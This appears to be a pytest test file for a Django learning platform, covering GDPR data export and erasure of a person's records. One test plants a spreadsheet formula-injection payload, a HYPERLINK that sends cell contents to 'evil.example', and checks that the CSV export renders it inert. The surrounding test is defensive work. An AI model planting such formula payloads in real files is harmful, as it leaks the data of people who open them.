"""A person downloads all of their data (Art. 15/20 GDPR) and erasure removes it everywhere."""

import csv
import io
import json
import uuid
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command

from lms.accounts.models import AuditLogEntry
from lms.xapi import events, vocabulary
from lms.xapi.iris import activity_iri
from lms.xapi.models import Statement
from tests.conftest import log_in

pytestmark = pytest.mark.django_db

COURSE = events.Activity(
    iri=activity_iri("course", "datenqualitaet"), name="Datenqualität", type=vocabulary.TYPE_COURSE
)


def test_learner_downloads_own_data_as_json_without_anyone_elses(client, make_user):
    lea = make_user("lea@example.org")
    other = make_user("other@example.org")
    mine = events.record(events.course_launched(user=lea, course=COURSE, registration=uuid.uuid4()))
    events.record(events.course_launched(user=other, course=COURSE, registration=uuid.uuid4()))
    log_in(client, lea)

    response = client.get("/me/export.json")

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('meine-daten.json"')
    sections = json.loads(response.content)["sections"]
    assert sections["account"][0]["email"] == "lea@example.org"
    assert [record["id"] for record in sections["learning_records"]] == [str(mine.id)]
    assert "other@example.org" not in response.content.decode()
    assert {"enrolments", "assessment_attempts", "competency_evidence"} <= set(sections)
    assert AuditLogEntry.objects.filter(action="personal_data.exported", actor=lea).exists()


def test_learner_downloads_csv_files_in_a_zip(client, make_user):
    lea = make_user("lea@example.org")
    events.record(events.course_launched(user=lea, course=COURSE, registration=uuid.uuid4()))
    log_in(client, lea)

    response = client.get("/me/export.zip")

    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert {"data.json", "account.csv", "learning_records.csv"} <= set(archive.namelist())
    assert "lea@example.org" in archive.read("account.csv").decode()
    assert COURSE.iri in archive.read("learning_records.csv").decode()


def test_csv_files_in_the_zip_hold_formula_text_inert(client, make_user, make_unit):
    formula = '=HYPERLINK("https://evil.example/?"&A1;"Details")'
    unit = make_unit("@SUM(1+1)*cmd")
    lea = make_user("lea@example.org", first_name=formula, last_name="-Muster", org_unit=unit)
    log_in(client, lea)

    archive = zipfile.ZipFile(io.BytesIO(client.get("/me/export.zip").content))

    for name in archive.namelist():
        if name.endswith(".csv"):
            rows = csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")), delimiter=";")
            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
    account = next(
        csv.DictReader(io.StringIO(archive.read("account.csv").decode("utf-8-sig")), delimiter=";")
    )
    assert (account["first_name"], account["last_name"]) == ("'" + formula, "'-Muster")
    assert account["org_unit"] == "'@SUM(1+1)*cmd"
    # The JSON copy holds the exact values.
    assert json.loads(archive.read("data.json"))["account"][0]["first_name"] == formula


def test_export_needs_login_and_a_known_format(client, make_user):
    assert client.get("/me/export.json").status_code == 302
    log_in(client, make_user("lea@example.org"))
    assert client.get("/me/export.xml").status_code == 404


def test_deleting_a_person_in_the_admin_erases_their_learning_records(client, make_user):
    admin = make_user("admin@example.org", groups=("Learner", "Administrator"))
    lea = make_user("lea@example.org")
    events.record(events.course_launched(user=lea, course=COURSE, registration=uuid.uuid4()))
    log_in(client, admin)

    response = client.post(f"/cms/users/delete/{lea.pk}/")

    assert response.status_code == 302
    assert not get_user_model().objects.filter(pk=lea.pk).exists()
    assert not Statement.objects.filter(object_id=COURSE.iri).exists()


def test_erase_person_command_removes_account_and_records(make_user):
    lea = make_user("lea@example.org")
    events.record(events.course_launched(user=lea, course=COURSE, registration=uuid.uuid4()))

    call_command("erase_person", "lea@example.org")

    assert not get_user_model().objects.filter(email="lea@example.org").exists()
    assert not Statement.objects.exists()
    entry = AuditLogEntry.objects.get(action="person.erased")
    assert entry.details["statements"] >= 1


def _validated_by(trainer, learner):
    """A statement that names ``trainer`` only as the instructor (not as its actor)."""
    return events.record(
        events.competency_validated(
            user=learner,
            competency=events.Activity(
                iri="urn:test:qd:QD.1", name="Kompetenz", type=vocabulary.TYPE_COMPETENCY
            ),
            level_uri="urn:test:level:2",
            validator=trainer,
        )
    )


def test_opening_the_delete_confirmation_erases_nothing(client, make_user):
    admin = make_user("admin@example.org", groups=("Learner", "Administrator"))
    lea = make_user("lea@example.org")
    events.record(events.course_launched(user=lea, course=COURSE, registration=uuid.uuid4()))
    log_in(client, admin)

    response = client.get(f"/cms/users/delete/{lea.pk}/")

    assert response.status_code == 200
    assert Statement.objects.filter(user=lea).exists()
    assert not AuditLogEntry.objects.filter(action__startswith="person.").exists()


def test_admin_deletion_is_erasure_by_person_erase_and_is_audited(client, make_user):
    admin = make_user("admin@example.org", groups=("Learner", "Administrator"))
    trainer = make_user("trainer@example.org", groups=("Learner", "Trainer"))
    colleague = make_user("kollegin@example.org")
    _validated_by(trainer, colleague)
    log_in(client, admin)

    response = client.post(f"/cms/users/delete/{trainer.pk}/")

    assert response.status_code == 302
    assert not get_user_model().objects.filter(pk=trainer.pk).exists()
    # The statement named the trainer only as instructor: it goes too.
    assert str(trainer.pseudonym) not in json.dumps(list(Statement.objects.values("data")))
    erased = AuditLogEntry.objects.get(action="person.erased")
    assert erased.actor == admin and erased.subject_label == str(trainer.pseudonym)
    assert erased.details["statements"] == 1
    assert AuditLogEntry.objects.filter(action="person.deleted", actor=admin).exists()


def test_a_trainer_cannot_delete_people(client, make_user):
    trainer = make_user("trainer@example.org", groups=("Learner", "Trainer"))
    lea = make_user("lea@example.org")
    log_in(client, trainer)

    response = client.post(f"/cms/users/delete/{lea.pk}/")

    assert response.status_code in (302, 403)
    assert get_user_model().objects.filter(pk=lea.pk).exists()


def test_deleting_a_person_by_any_path_leaves_no_statement_naming_them(make_user):
    trainer = make_user("trainer@example.org", groups=("Learner", "Trainer"))
    lea = make_user("lea@example.org")
    _validated_by(trainer, lea)
    events.record(events.course_launched(user=trainer, course=COURSE, registration=uuid.uuid4()))

    get_user_model().objects.filter(pk=trainer.pk).delete()  # past every service

    assert str(trainer.pseudonym) not in json.dumps(list(Statement.objects.values("data")))
    assert not Statement.objects.filter(object_id=COURSE.iri).exists()
